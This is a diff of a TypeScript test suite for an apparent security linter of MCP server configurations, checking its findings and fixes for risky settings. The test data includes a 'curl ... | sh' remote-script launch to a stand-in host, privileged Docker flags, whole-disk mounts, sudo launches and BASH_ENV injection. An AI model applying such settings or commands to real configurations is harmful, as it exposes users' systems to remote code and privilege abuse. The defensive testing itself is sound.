@@ -1,136 +1,101 @@
 import assert from 'node:assert/strict';
-import { test } from 'node:test';
+import { describe, test } from 'node:test';
 import { analyze } from '../../server/src/analysis/analyze.ts';
-import { applyFix } from '../../server/src/analysis/edits.ts';
+import { fixesOf } from './findingsOf.ts';
 
-/** The text after the first fix of the first finding of a rule; undefined where it offers none. */
-function fixed(ruleId: string, server: unknown, path = '.vscode/mcp.json', root = 'servers'): unknown {
-  const text = JSON.stringify({ [root]: { example: server } });
-  const { findings } = analyze({ uri: `file:///project/${path}`, text }, { language: 'en' });
-  const finding = findings.find((candidate) => candidate.ruleId === ruleId);
-  assert.ok(finding, text);
-  const [fix] = finding.fixes;
-  // Every one of them changes what is started.
-  assert.notEqual(fix?.safe, true);
-  return fix && JSON.parse(applyFix(text, fix))[root].example;
-}
+const run = (line: string, env: object = {}) => {
+  const [command, ...args] = line.split(' ');
+  return { command, args, env };
+};
 
-test('a version goes where the runner looks for it', () => {
-  const pin = (command: string, ...args: string[]) => fixed('unpinned-package', { command, args });
-  assert.deepEqual(pin('npx', '-y', '@a/b'), { command: 'npx', args: ['-y', '@a/b@VERSION'] });
-  assert.deepEqual(pin('npx', 'a@latest'), { command: 'npx', args: ['a@VERSION'] });
-  assert.deepEqual(pin('uvx', 'a[x]>=1,<2'), { command: 'uvx', args: ['a[x]==VERSION'] });
-  assert.deepEqual(pin('deno', 'run', 'npm:a@1/cli'), {
-    command: 'deno',
-    args: ['run', 'npm:a@VERSION/cli'],
+describe('fixes of launches', () => {
+  test('a launch without sudo', () => {
+    const of = (entry: object) => fixesOf('sudo-launch', entry);
+    assert.deepEqual(of({ command: 'sudo acme --x' }), [[false, { command: 'acme --x' }]]);
+    assert.deepEqual(of({ command: 'sudo', args: ['-n', 'a', 'b'] }), [
+      [false, { command: 'a', args: ['b'] }],
+    ]);
+    assert.deepEqual(of({ command: 'sudo', args: ['env -S', 'a'] }), []);
+    assert.deepEqual(of({ command: 'nice sudo', args: ['a'] }), []);
+    assert.deepEqual(of({ command: 'runas', args: ['/trustlevel:0x20000', 'npx -y a'] }), []);
+    assert.deepEqual(of({ command: 'sudo', args: ['doas', 'a'] }), [
+      [false, { command: 'doas', args: ['a'] }],
+      [false, { command: 'sudo', args: ['a'] }],
+    ]);
   });
-  assert.deepEqual(pin('dnx', 'A.B', '--version', '1.*'), {
-    command: 'dnx',
-    args: ['A.B', '--version', 'VERSION'],
+
+  test('a list without a scope', () => {
+    const url = 'https://mcp.acme.dev/mcp';
+    const of = (scopes: unknown) =>
+      fixesOf('excessive-oauth-scope', { url, oauth: { scopes } }).map(([safe, entry]) => [
+        safe,
+        (entry as { oauth: { scopes: unknown } }).oauth.scopes,
+      ]);
+    assert.deepEqual(of(['a', '*', 'b']), [[false, ['a', 'b']]]);
+    assert.deepEqual(of(['a *', 'b']), [[false, ['a', 'b']]]);
+    assert.deepEqual(of(['* a']), [[false, ['a']]]);
+    assert.deepEqual(of('a,*,b'), [[false, 'a,b']]);
+    assert.deepEqual(of('a * b'), [[false, 'a b']]);
+    assert.deepEqual(of('*'), [[false, '']]);
   });
-  assert.deepEqual(pin('sh', '-c', 'x; npx "a"'), { command: 'sh', args: ['-c', 'x; npx "a@VERSION"'] });
-  assert.deepEqual(pin('npx a --x'), { command: 'npx a@VERSION --x', args: [] });
-  assert.equal(pin('bash', '-c', 'sh -c "x; npx \\"a\\""'), undefined);
-});
 
-test('a digest goes behind the tag', () => {
-  const server = { command: 'docker', args: ['run', 'a/b:latest', 'x'] };
-  assert.deepEqual(fixed('unpinned-image', server), {
-    ...server,
-    args: ['run', 'a/b:latest@sha256:DIGEST', 'x'],
+  test('read-only servers', () => {
+    const of = (entry: object) => fixesOf('unrestricted-toolset', entry);
+    const github = 'https://api.githubcopilot.com/mcp/';
+    const headers = { Authorization: '${input:x}' };
+    const supabase = 'https://mcp.supabase.com/mcp?x=1';
+    assert.deepEqual(of({ url: github, headers }), [
+      [false, { url: github, headers: { ...headers, 'X-MCP-Readonly': 'true' } }],
+    ]);
+    assert.deepEqual(of({ url: github, headers: 'x' }), []);
+    assert.deepEqual(of({ url: supabase }), [[false, { url: `${supabase}&read_only=true` }]]);
+    assert.deepEqual(of({ command: 'mcp-remote', args: [github] }), []);
+    const image = 'ghcr.io/github/github-mcp-server';
+    assert.deepEqual(of({ command: 'docker', args: ['run', image] }), [
+      [false, { command: 'docker', args: ['run', '-e', 'GITHUB_READ_ONLY=1', image] }],
+    ]);
+    assert.deepEqual(of({ command: `docker run ${image}` }), []);
+  });
+
+  test('those that keep the meaning say so', () => {
+    const safe = (ruleId: string, entry: unknown, file?: string) =>
+      fixesOf(ruleId, entry, file).map(([isSafe]) => isSafe);
+    assert.deepEqual(safe('tls-verification-disabled', run('a --insecure')), [true]);
+    assert.deepEqual(safe('authentication-disabled', run('a --port 1 --no-auth')), [true]);
+    assert.deepEqual(safe('sandbox-disabled', run('a --no-sandbox')), [false]);
+    assert.deepEqual(safe('dangerous-environment', run('a', { BASH_ENV: 'x' })), [false]);
+    assert.deepEqual(
+      safe('destructive-auto-approve', { command: 'a', alwaysAllow: ['delete_x'] }, '.roo/mcp.json'),
+      [true],
+    );
+    assert.deepEqual(
+      safe('destructive-auto-approve', { command: 'a', alwaysAllow: 'delete_x' }, '.roo/mcp.json'),
+      [],
+    );
   });
 });
 
-test('an option goes with its value, and no other one does', () => {
-  const drop = (...args: string[]) =>
-    fixed('privileged-container', { command: 'docker', args: ['run', ...args] });
-  const left = (...args: string[]) => ({ command: 'docker', args: ['run', ...args] });
-  assert.deepEqual(drop('-i', '--network', 'host', 'a@sha256:0'), left('-i', 'a@sha256:0'));
-  assert.deepEqual(drop('-u0', '-i', 'a@sha256:0'), left('-i', 'a@sha256:0'));
-  assert.deepEqual(drop('-i', '--privileged'), left('-i'));
-  assert.equal(drop('-iu', 'root', 'a@sha256:0'), undefined);
-  assert.deepEqual(
-    fixed('privileged-container', { command: 'sh', args: ['-c', 'x; docker run -v /:/h a/b:1'] }),
-    { command: 'sh', args: ['-c', 'x; docker run a/b:1'] },
-  );
-});
-
-test('a shell is only taken away where nothing else would go with it', () => {
-  const split = (command: string, ...args: string[]) => fixed('shell-command', { command, args });
-  assert.deepEqual(split('sh', '-c', "exec a 'b c'"), { command: 'a', args: ['b c'] });
-  assert.deepEqual(split('powershell', '-Command', 'a', '-b'), { command: 'a', args: ['-b'] });
-  assert.equal(split('wsl', 'sh', '-c', 'a b'), undefined);
-  assert.equal(split('sh', '-c', 'a b', 'zero'), undefined);
-  assert.equal(split('sh -c "a b"'), undefined);
-  assert.equal(fixed('shell-command', { command: ['sh', '-c', 'a b'] }, 'opencode.json', 'mcp'), undefined);
-});
-
-test('a folder is narrowed where the client knows the workspace', () => {
-  const server = { command: 'mcp-filesystem', args: ['/a', '~'] };
-  assert.deepEqual(fixed('broad-filesystem-access', server), {
-    ...server,
-    args: ['/a', '${workspaceFolder}'],
+describe('limits of a sandbox in the wrong place', () => {
+  const limits = { network: {} };
+  const fixes = (config: object) => {
+    const { findings } = analyze(
+      { uri: 'file:///project/.vscode/mcp.json', text: JSON.stringify(config) },
+      { language: 'en' },
+    );
+    return findings
+      .filter(({ ruleId }) => ruleId === 'misplaced-sandbox')
+      .map((finding) => finding.fixes.map(({ safe }) => safe));
+  };
+  test('move to the top', () => {
+    assert.deepEqual(fixes({ servers: { a: { command: 'a', sandbox: limits }, b: { command: 'b' } } }), [
+      [true],
+    ]);
   });
-  assert.equal(
-    fixed('broad-filesystem-access', server, 'claude_desktop_config.json', 'mcpServers'),
-    undefined,
-  );
-});
-
-const rulesOfLaunches = new Set([
-  'broad-filesystem-access',
-  'privileged-container',
-  'remote-script',
-  'shell-command',
-  'unpinned-image',
-  'unpinned-package',
-]);
-
-/** What the rules about launches say of a server: `rule message severity`. */
-function said(command: string, ...args: string[]): string[] {
-  const text = JSON.stringify({ servers: { example: { command, args } } });
-  const { findings } = analyze({ uri: 'file:///project/.vscode/mcp.json', text }, { language: 'en' });
-  return findings
-    .filter(({ ruleId }) => rulesOfLaunches.has(ruleId))
-    .map(({ ruleId, messageId, severity }) => `${ruleId} ${messageId} ${severity}`);
-}
-
-test('one cause is told once', () => {
-  const image = 'a/b@sha256:0';
-  assert.deepEqual(said('docker', 'run', '-v', '/:/x', image), ['privileged-container disk error']);
-  assert.deepEqual(said('docker', 'run', '-v', '~:/x', image), ['broad-filesystem-access home warning']);
-  assert.deepEqual(said('sh', '-c', 'curl https://h.test/i | sh'), ['remote-script shell error']);
-  assert.deepEqual(said('npx', 'https://h.test/a.tgz'), ['remote-script runner error']);
-});
-
-test('paths inside a container are not those of this machine', () => {
-  const inside = ['a/b@sha256:0', 'npx', '-y', 'server-filesystem@1.0.0', '/'];
-  assert.deepEqual(said('docker', 'run', ...inside), []);
-  assert.deepEqual(said('npx', ...inside.slice(2)), ['broad-filesystem-access disk warning']);
-  assert.deepEqual(said('acme-mcp', '--root=/'), ['broad-filesystem-access disk warning']);
-});
-
-test('rights of a container, from worst to mildest', () => {
-  const rights = (option: string) => said('docker', 'run', option, 'a/b@sha256:0');
-  for (const option of [
-    '--privileged',
-    '--pid=host',
-    '--cap-add=ALL',
-    '--security-opt=apparmor:unconfined',
-  ]) {
-    assert.match(rights(option).join(), /^privileged-container \w+ error$/, option);
-  }
-  for (const option of ['--network=host', '--ipc=host', '-uroot', '--cap-add=CAP_NET_ADMIN']) {
-    assert.match(rights(option).join(), /^privileged-container \w+ warning$/, option);
-  }
-  for (const option of ['--privileged=false', '--ipc=private', '-u1000:0', '--cap-add=CHOWN', '-v/srv:/x']) {
-    assert.deepEqual(rights(option), [], option);
-  }
-});
-
-test('a message shows the whole specifier with a version', () => {
-  const text = JSON.stringify({ servers: { example: { command: 'uvx', args: ['a[x]>=1'] } } });
-  const { findings } = analyze({ uri: 'file:///project/.vscode/mcp.json', text }, { language: 'en' });
-  const finding = findings.find(({ ruleId }) => ruleId === 'unpinned-package');
-  assert.match(finding?.message ?? '', /^`a\[x\]>=1` .* `a\[x\]==1\.2\.3`\.$/);
+  test('stay where two servers have some', () => {
+    const servers = { a: { command: 'a', sandbox: limits }, b: { command: 'b', sandbox: limits } };
+    assert.deepEqual(fixes({ servers }), [[], []]);
+  });
+  test('stay where the servers are not at the top', () => {
+    assert.deepEqual(fixes({ mcp: { servers: { a: { command: 'a', sandbox: limits } } } }), [[]]);
+  });
 });
